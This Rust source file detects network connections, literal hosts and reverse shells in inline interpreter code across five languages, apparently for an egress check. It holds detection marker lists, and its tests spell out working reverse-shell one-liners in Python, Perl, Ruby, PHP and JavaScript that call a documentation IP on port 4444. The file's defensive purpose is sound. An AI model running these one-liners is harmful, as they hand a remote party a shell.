//! What interpreter code given inline (`python -c`, `node -e`, an MCP tool's `code`) does on
//! the network: whether it opens connections, the literal hosts, IPs and `host:port` strings
//! it names (to go through the egress check as curl's destinations do), and whether it wires
//! a shell to a socket (a reverse shell).
//!
//! Knowledge is per language, as data: the markers of connections, of running a shell, and of
//! wiring the two together.

/// A language whose inline code is read.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub enum Language {
    /// Python.
    Python,
    /// JavaScript (node, deno, bun).
    JavaScript,
    /// Ruby.
    Ruby,
    /// Perl.
    Perl,
    /// PHP.
    Php,
}

/// What one language's code looks like when it touches the network or a shell.
struct LanguageMarkers {
    language: Language,
    /// Opens a connection (sockets, HTTP clients).
    connects: &'static [&'static str],
    /// Runs a program or a shell.
    runs_shell: &'static [&'static str],
    /// Wires file descriptors to a socket (what turns "connects" plus "runs a shell" into a
    /// reverse shell).
    wires: &'static [&'static str],
}

const MARKERS: &[LanguageMarkers] = &[
    LanguageMarkers {
        language: Language::Python,
        connects: &[
            "socket.socket",
            "socket(",
            "create_connection",
            "urlopen",
            "urllib.request",
            "requests.",
            "http.client",
            "httpx.",
            "aiohttp",
            "ftplib",
            "smtplib",
            "telnetlib",
            "paramiko",
            "xmlrpc.client",
            "websocket",
            ".connect((",
        ],
        runs_shell: &[
            "pty.spawn",
            "subprocess",
            "os.system",
            "os.popen",
            "os.exec",
            "/bin/sh",
            "/bin/bash",
        ],
        wires: &["dup2", "pty.spawn", "stdin=s", "stdout=s", "fileno()"],
    },
    LanguageMarkers {
        language: Language::JavaScript,
        connects: &[
            "net.connect",
            "net.createConnection",
            "net.Socket",
            "require('net')",
            "require(\"net\")",
            "from 'net'",
            "from \"net\"",
            "node:net",
            "http.request",
            "https.request",
            "require('http",
            "require(\"http",
            "from 'http",
            "from \"http",
            "node:http",
            "http.get",
            "https.get",
            "fetch(",
            "axios",
            "dgram",
            "tls.connect",
            "WebSocket",
            "Deno.connect",
            "Bun.connect",
        ],
        runs_shell: &[
            "child_process",
            "spawn(",
            "exec(",
            "execSync",
            "Deno.Command",
            "Deno.run",
            "Bun.spawn",
            "/bin/sh",
            "/bin/bash",
        ],
        wires: &[".pipe(", "stdio:"],
    },
    LanguageMarkers {
        language: Language::Ruby,
        connects: &[
            "TCPSocket",
            "UDPSocket",
            "Socket.tcp",
            "Socket.new",
            "Net::HTTP",
            "open-uri",
            "URI.open",
            "Faraday",
            "HTTParty",
            "RestClient",
        ],
        runs_shell: &[
            "exec",
            "spawn",
            "system",
            "IO.popen",
            "Open3",
            "`",
            "/bin/sh",
            "/bin/bash",
        ],
        wires: &[
            "to_i",
            ":in=>",
            ":out=>",
            "in:",
            "out:",
            "reopen",
            "IO.for_fd",
        ],
    },
    LanguageMarkers {
        language: Language::Perl,
        connects: &[
            "IO::Socket",
            "use Socket",
            "socket(",
            "connect(",
            "LWP::",
            "HTTP::Tiny",
            "Net::",
        ],
        runs_shell: &["exec", "system", "open(", "/bin/sh", "/bin/bash", "qx", "`"],
        wires: &[">&S", ">&", "fdopen", "STDIN", "dup"],
    },
    LanguageMarkers {
        language: Language::Php,
        connects: &[
            "fsockopen",
            "stream_socket_client",
            "socket_create",
            "socket_connect",
            "curl_init",
            "file_get_contents(\"http",
            "file_get_contents('http",
            "fopen(\"http",
            "fopen('http",
        ],
        runs_shell: &[
            "exec(",
            "shell_exec",
            "system(",
            "passthru",
            "proc_open",
            "popen",
            "`",
            "/bin/sh",
            "/bin/bash",
        ],
        wires: &[
            "proc_open",
            "array(0=>$",
            "[0=>$",
            "0=>$sock",
            "STDIN",
            // A shell given the socket's descriptor: `exec("/bin/sh -i <&3 >&3 2>&3")`.
            "<&",
        ],
    },
];

/// File extensions that make a dotted literal a file name, not a host (`main.py`).
const FILE_EXTENSIONS: &[&str] = &[
    "py", "js", "mjs", "cjs", "ts", "rb", "pl", "pm", "php", "sh", "json", "yaml", "yml", "toml",
    "txt", "md", "csv", "tsv", "xml", "html", "htm", "css", "log", "ini", "cfg", "conf", "env",
    "lock", "pem", "key", "crt", "sql", "db", "sqlite", "png", "jpg", "jpeg", "gif", "svg", "zip",
    "gz", "tgz", "tar", "bz2", "xz", "so", "dll", "exe", "bin", "o", "a", "c", "h", "cc", "cpp",
    "hpp", "rs", "go", "java", "class", "jar", "pyc", "whl", "egg", "out", "pid", "sock", "tmp",
    "bak", "swp", "pdf", "doc", "docx", "xls", "xlsx", "wasm", "map", "vue", "jsx", "tsx", "ipynb",
    "dat", "old", "orig",
];

/// A literal destination named in the code.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Endpoint {
    /// A URL (`https://h/x`).
    Url(String),
    /// A host or IP, with the port written beside it (`"h:443"`, `("1.2.3.4", 4444)`).
    Host {
        /// The host or IP, as written (brackets removed).
        host: String,
        /// The port, when one is written.
        port: Option<u16>,
    },
}

/// What inline code does on the network.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct NetworkUse {
    /// It opens connections.
    pub connects: bool,
    /// The literal destinations it names (only collected when it connects).
    pub endpoints: Vec<Endpoint>,
    /// It wires a shell to a socket.
    pub reverse_shell: bool,
}

/// What `code` in `language` does on the network.
pub fn network_use(language: Language, code: &str) -> NetworkUse {
    let Some(m) = MARKERS.iter().find(|m| m.language == language) else {
        return NetworkUse::default();
    };
    let has = |list: &[&str]| list.iter().any(|k| code.contains(k));
    let connects = has(m.connects);
    let mut out = NetworkUse {
        connects,
        ..NetworkUse::default()
    };
    if !connects {
        return out;
    }
    out.reverse_shell = has(m.runs_shell) && has(m.wires);
    out.endpoints = literal_endpoints(code);
    out
}

/// The string literals of `code` that are URLs, hosts, IPs or `host:port`, with a port from a
/// number written right after a host literal (`("h", 4444)`, `connect(4444, "h")` is not read).
pub fn literal_endpoints(code: &str) -> Vec<Endpoint> {
    let mut out: Vec<Endpoint> = Vec::new();
    let b = code.as_bytes();
    let mut i = 0;
    while i < b.len() {
        let q = b[i];
        if !matches!(q, b'\'' | b'"' | b'`') {
            i += 1;
            continue;
        }
        let start = i + 1;
        let mut j = start;
        while j < b.len() && b[j] != q && b[j] != b'\n' {
            if b[j] == b'\\' {
                j += 1;
            }
            j += 1;
        }
        if j >= b.len() || b[j] != q {
            // An open quote: nothing after it is a literal we can trust.
            i = j.max(i + 1);
            continue;
        }
        let literal = &code[start..j];
        i = j + 1;
        if let Some(e) = endpoint(literal, &code[i..])
            && !out.contains(&e)
        {
            out.push(e);
        }
    }
    out
}

/// One literal as an endpoint; `after` is the code after the closing quote.
fn endpoint(literal: &str, after: &str) -> Option<Endpoint> {
    let t = literal.trim();
    if t.len() > 2048 || t.is_empty() {
        return None;
    }
    if let Some((scheme, _)) = t.split_once("://")
        && !scheme.is_empty()
        && scheme
            .bytes()
            .all(|c| c.is_ascii_alphanumeric() || matches!(c, b'+' | b'-' | b'.'))
        && !scheme.eq_ignore_ascii_case("file")
    {
        return Some(Endpoint::Url(t.to_string()));
    }
    let (host, port) = split_host_port(t)?;
    if !is_host(host) {
        return None;
    }
    let port = port.or_else(|| port_after(after));
    Some(Endpoint::Host {
        host: host.to_string(),
        port,
    })
}

/// `host:port`, `[v6]:port`, or a bare host.
fn split_host_port(t: &str) -> Option<(&str, Option<u16>)> {
    if let Some(rest) = t.strip_prefix('[') {
        let (h, tail) = rest.split_once(']')?;
        let port = match tail.strip_prefix(':') {
            Some(p) => Some(p.parse().ok()?),
            None if tail.is_empty() => None,
            None => return None,
        };
        return Some((h, port));
    }
    match t.rsplit_once(':') {
        Some((h, p)) if !h.contains(':') => Some((h, Some(p.parse().ok()?))),
        Some(_) if t.parse::<std::net::Ipv6Addr>().is_ok() => Some((t, None)),
        Some(_) => None,
        None => Some((t, None)),
    }
}

fn is_host(h: &str) -> bool {
    if h.parse::<std::net::IpAddr>().is_ok() {
        return true;
    }
    if h.eq_ignore_ascii_case("localhost") {
        return true;
    }
    let labels: Vec<&str> = h.split('.').collect();
    if labels.len() < 2 {
        return false;
    }
    let label_ok = |l: &&str| {
        !l.is_empty()
            && l.len() <= 63
            && l.bytes().all(|c| c.is_ascii_alphanumeric() || c == b'-')
            && !l.starts_with('-')
            && !l.ends_with('-')
    };
    if !labels.iter().all(label_ok) {
        return false;
    }
    let last = labels[labels.len() - 1].to_ascii_lowercase();
    // A name under a known public suffix (`os.path`, `app.models` are code names), and not a
    // file name whose extension happens to be a top-level domain (`main.py`, `notes.md`).
    let lower = h.to_ascii_lowercase();
    let known_suffix = psl::suffix(lower.as_bytes())
        .is_some_and(|s| s.is_known() && s.as_bytes().len() < lower.len());
    // `Foo.bar`, `socket.AF_INET`: attribute access written in a string, not a host.
    let code_name = labels[0].bytes().any(|c| c.is_ascii_uppercase());
    known_suffix && !code_name && !FILE_EXTENSIONS.contains(&last.as_str())
}

/// A port written right after a host literal: `, 4444` or `, port=4444`.
fn port_after(after: &str) -> Option<u16> {
    let rest = after.trim_start().strip_prefix(',')?.trim_start();
    let rest = rest.strip_prefix("port=").unwrap_or(rest);
    let digits: String = rest.chars().take_while(|c| c.is_ascii_digit()).collect();
    let next = rest[digits.len()..].chars().next();
    if digits.is_empty() || next.is_some_and(|c| c.is_alphanumeric() || c == '.') {
        return None;
    }
    digits.parse().ok()
}

#[cfg(test)]
mod tests {
    use super::*;
    use Language::*;

    fn host(h: &str, port: Option<u16>) -> Endpoint {
        Endpoint::Host {
            host: h.into(),
            port,
        }
    }

    #[test]
    fn literal_destinations_of_code_that_connects() {
        let u = network_use(
            Python,
            "import socket; s=socket.socket(); s.connect(('203.0.113.5', 4444))",
        );
        assert!(u.connects);
        assert_eq!(u.endpoints, [host("203.0.113.5", Some(4444))]);
        let u = network_use(
            Python,
            "import urllib.request; urllib.request.urlopen('https://evil.example.com/x')",
        );
        assert_eq!(
            u.endpoints,
            [Endpoint::Url("https://evil.example.com/x".into())]
        );
        let u = network_use(JavaScript, "require('net').connect(80, 'api.example.com')");
        assert_eq!(u.endpoints, [host("api.example.com", None)]);
        let u = network_use(
            JavaScript,
            "require('https').request({host:'api.example.com'}).end(x)",
        );
        assert!(u.connects);
        let u = network_use(JavaScript, "fetch(\"http://10.0.0.5:8080/x\")");
        assert_eq!(
            u.endpoints,
            [Endpoint::Url("http://10.0.0.5:8080/x".into())]
        );
        let u = network_use(Ruby, "require 'socket'; TCPSocket.new('h.example.com', 80)");
        assert_eq!(u.endpoints, [host("h.example.com", Some(80))]);
        let u = network_use(Php, "$s=fsockopen('[2001:db8::1]:22');");
        assert_eq!(u.endpoints, [host("2001:db8::1", Some(22))]);
        let u = network_use(
            Perl,
            "use IO::Socket; IO::Socket::INET->new('h.example.com:443')",
        );
        assert_eq!(u.endpoints, [host("h.example.com", Some(443))]);
    }

    #[test]
    fn code_that_does_not_connect_names_no_destinations() {
        for (l, code) in [
            (Python, "print('api.example.com')"),
            (Python, "import os; print(os.path.join('a', 'b'))"),
            (JavaScript, "console.log('https://example.com')"),
            (Ruby, "puts 'h.example.com'"),
        ] {
            let u = network_use(l, code);
            assert!(!u.connects && u.endpoints.is_empty(), "{code}");
        }
    }

    #[test]
    fn file_names_and_code_names_are_not_hosts() {
        let u = network_use(
            Python,
            "import requests; requests.post('https://api.example.com', files={'f': open('report.pdf','rb')}, data=open('config.json').read()); x = 'os.path'; y = 'app.models'; socket.AF_INET",
        );
        assert_eq!(
            u.endpoints,
            [Endpoint::Url("https://api.example.com".into())]
        );
        for not_host in [
            "main.py",
            "a.b.c.txt",
            "x",
            "Foo.bar",
            "1.2.3",
            "-a.com",
            "file:///etc/passwd",
        ] {
            assert!(endpoint(not_host, "").is_none(), "{not_host}");
        }
    }

    #[test]
    fn reverse_shells() {
        for (l, code) in [
            (
                Python,
                "import socket,os,pty;s=socket.socket();s.connect(('203.0.113.5',4444));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn('sh')",
            ),
            (
                Python,
                "import socket,subprocess;s=socket.create_connection(('h.example.com',9));subprocess.call(['/bin/sh','-i'],stdin=s.fileno(),stdout=s.fileno())",
            ),
            (
                Perl,
                "use Socket;socket(S,PF_INET,SOCK_STREAM,0);connect(S,sockaddr_in(4444,inet_aton('203.0.113.5')));open(STDIN,'>&S');exec('/bin/sh -i');",
            ),
            (
                Ruby,
                "require 'socket';f=TCPSocket.open('203.0.113.5',4444).to_i;exec sprintf('/bin/sh -i <&%d >&%d',f,f)",
            ),
            (
                Php,
                "$sock=fsockopen('203.0.113.5',4444);proc_open('/bin/sh -i', array(0=>$sock, 1=>$sock), $pipes);",
            ),
            (
                Php,
                "$sock=fsockopen('203.0.113.5',4444);exec('/bin/sh -i <&3 >&3 2>&3');",
            ),
            (
                JavaScript,
                "var net=require('net'),cp=require('child_process'),sh=cp.spawn('/bin/sh',[]);var c=new net.Socket();c.connect(4444,'203.0.113.5',function(){c.pipe(sh.stdin);sh.stdout.pipe(c);});",
            ),
        ] {
            assert!(network_use(l, code).reverse_shell, "{code}");
        }
        for (l, code) in [
            (Python, "import socket; print(socket.gethostname())"),
            (
                Python,
                "import requests, subprocess; requests.get('https://h.example.com'); subprocess.run(['ls'])",
            ),
            (
                JavaScript,
                "require('https').get('https://h.example.com', r => r.pipe(process.stdout))",
            ),
        ] {
            assert!(!network_use(l, code).reverse_shell, "{code}");
        }
    }

    #[test]
    fn ports_after_host_literals() {
        assert_eq!(port_after(", 4444)"), Some(4444));
        assert_eq!(port_after(",port=22)"), Some(22));
        assert_eq!(port_after(", 4444.5)"), None);
        assert_eq!(port_after(") + 1"), None);
        assert_eq!(port_after(", 99999)"), None);
    }

    #[test]
    fn open_quotes_and_long_text_stay_linear() {
        let _ = literal_endpoints(&"'a.example".repeat(50_000));
        let _ = literal_endpoints(&"\"".repeat(100_000));
    }
}
